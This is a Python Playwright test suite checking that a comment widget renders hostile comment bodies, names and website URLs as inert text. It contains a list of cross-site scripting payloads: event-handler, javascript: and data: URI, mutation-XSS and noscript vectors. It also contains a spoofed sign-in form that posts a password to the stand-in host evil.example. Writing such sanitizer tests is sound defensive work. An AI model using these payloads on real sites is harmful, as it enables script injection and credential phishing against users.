"""Hostile text stays text: it cannot run scripts, add foreign links or imitate controls.

Each payload tries to open a dialog, and a test fails if one of its tabs opens one.
"""

import json

import playwright.sync_api as playwright
import pytest
from playwright.sync_api import expect

from comments.domain.text import sanitizing
from tests.browser.conftest import OpenTab, Say

pytestmark = pytest.mark.browser

BODIES = {
    "image": """<img src="1'onerror='alert(1)'a='"><img src=x onerror=alert(1)>""",
    "handlers": "<details open ontoggle=alert(1)>x</details><svg/onload=alert(1)>",
    "links": "[x](javascript:alert(1)) [y](java&#x0a;script:alert(1)) <javascript:alert(1)>",
    "reference": "[x][r]\n\n[r]: javascript:alert(1)",
    "data": "![x](data:text/html,<script>alert(1)</script>) [y](data:text/html;base64,PHNj)",
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
    '&lt;img src=1 onerror=alert(1)&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template><script>alert(1)</script>",
    "spoof": "<style>*{display:none}</style><form action=//evil.example><input name=password>"
    '<button class="ft-submit" style="position:fixed;inset:0">Sign in</button></form>',
}
NAMES = [
    'Alex"</a><iframe srcdoc="<script>alert(1)</script>">',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
]
WEBSITES = [
    "javascript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example",
    "https:evil.example",
]
# Return every element that the browser built in bodies and headers, with its attributes.
ELEMENTS = """host => Array.from(
    host.shadowRoot.querySelectorAll(".ft-body *, .ft-preview *, .ft-author, .ft-author *"),
    node => [node.localName, Object.fromEntries(
        Array.from(node.attributes, ({name, value}) => [name, value]))])"""


def elements(page: playwright.Page) -> list[tuple[str, dict[str, str]]]:
    return [
        (name, attributes) for name, attributes in page.locator("#flatthread").evaluate(ELEMENTS)
    ]


def fill(page: playwright.Page, **values: str) -> playwright.Locator:
    form = page.get_by_role("form", name="Write a comment")
    for name, value in values.items():
        form.get_by_role("textbox", name=name).fill(value)
    return form


@pytest.mark.parametrize("payload", BODIES)
def test_a_hostile_body_builds_only_allowed_elements(
    server: str, open_tab: OpenTab, payload: str
) -> None:
    page = open_tab(server).page
    form = fill(page, Comment=f"{BODIES[payload]}\n\nthe end", Name="Mallory")
    form.get_by_role("button", name="Preview").click()
    expect(form.get_by_role("region").get_by_text("the end")).to_be_visible()
    form.get_by_role("button", name="Post comment").click()
    expect(page.locator(".ft-body").get_by_text("the end")).to_be_visible()
    page.reload()
    expect(page.locator(".ft-body").get_by_text("the end")).to_be_visible()

    built = elements(page)
    body = [(name, attributes) for name, attributes in built if "class" not in attributes]
    assert {name for name, _ in body} <= sanitizing.TAGS | {"bdi"}
    for _, attributes in body:
        assert set(attributes) <= {"href", "title", "rel", "tabindex"}
        assert attributes.get("href", "https://").startswith(("https://", "http://", "mailto:"))
    assert page.locator("iframe, object, embed").count() == 0


@pytest.mark.parametrize("name", NAMES)
def test_a_hostile_name_is_text_in_the_list_and_in_labels(
    server: str, open_tab: OpenTab, name: str
) -> None:
    page = open_tab(server).page
    form = fill(page, Comment="hello", Name=name)
    form.get_by_role("button", name="Post comment").click()
    expect(page.locator(".ft-author")).to_have_text(name)
    page.reload()

    expect(page.locator(".ft-author")).to_have_text(name)
    assert [tag for tag, _ in elements(page)] == ["span", "bdi", "p"]
    page.get_by_role("button", name=f"Reply to {name}", exact=True).click()
    expect(page.get_by_role("form", name=f"Reply to {name}", exact=True)).to_be_visible()


def test_a_website_that_is_not_a_web_address_is_never_a_link(
    server: str, open_tab: OpenTab
) -> None:
    tab = open_tab(server)
    tab.expect_status(400)
    form = fill(tab.page, Comment="hello", Name="Mallory")
    box = form.get_by_role("textbox", name="Website")
    for address in WEBSITES:
        # Browsers drop some of these characters when they are typed, so a script sets the value.
        box.evaluate("(input, value) => { input.type = 'text'; input.value = value; }", address)
        form.get_by_role("button", name="Post comment").click()
        expect(form.locator(".ft-field-website").get_by_role("alert")).to_contain_text(
            "Enter a web address"
        )
    assert elements(tab.page) == []


def test_quotes_in_a_website_do_not_close_its_attribute(server: str, open_tab: OpenTab) -> None:
    tab = open_tab(server)
    tab.expect_status(400)
    website = "http://x.example/?'onmouseover='alert(1)'x='"
    form = fill(tab.page, Comment="hello", Name="Mallory", Website=website)
    form.get_by_role("button", name="Post comment").click()

    answered = form.locator(".ft-field-website").get_by_role("alert")
    expect(answered.or_(tab.page.get_by_role("listitem")).first).to_be_visible()
    for tag, attributes in elements(tab.page):
        if tag == "a":
            assert set(attributes) == {"class", "part", "href", "rel"}


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)", "data:text/html,x", "//evil.example", "http://x..com",
        "http://x.com:65536/", "http://\u0430pple.com/",
    ],
)  # fmt: skip
def test_the_widget_refuses_such_links_even_from_the_server(
    server: str, open_tab: OpenTab, say: Say, address: str
) -> None:
    """The widget is the second line of defense, so this test bypasses the server's defense."""
    say("hello")
    page = open_tab("about:blank").page

    def poisoned(route: playwright.Route) -> None:
        response = route.fetch()
        answer = response.json()
        answer["comments"][0]["author"]["website"] = address
        route.fulfill(response=response, body=json.dumps(answer))

    page.route("**/comments?*", poisoned)
    page.goto(server)
    expect(page.locator(".ft-author")).to_have_text("Ada")
    assert page.locator("a.ft-author").count() == 0


def test_a_valid_website_is_a_link_with_rel_nofollow(server: str, open_tab: OpenTab) -> None:
    page = open_tab(server).page
    form = fill(page, Comment="hello", Name="Ada", Website="https://ada.example/me")
    form.get_by_role("button", name="Post comment").click()
    link = page.get_by_role("link", name="Ada")
    expect(link).to_have_attribute("href", "https://ada.example/me")
    expect(link).to_have_attribute("rel", "nofollow ugc noopener")


def test_right_to_left_names_and_texts_are_isolated(
    server: str, open_tab: OpenTab, say: Say
) -> None:
    say("هذا تعليق", name="علي (7)")
    page = open_tab(server).page
    name = page.locator(".ft-author bdi")
    expect(name).to_have_text("علي (7)")
    assert page.locator(".ft-body").evaluate("node => getComputedStyle(node).direction") == "rtl"
    assert page.locator(".ft-head").evaluate("node => getComputedStyle(node).direction") == "ltr"
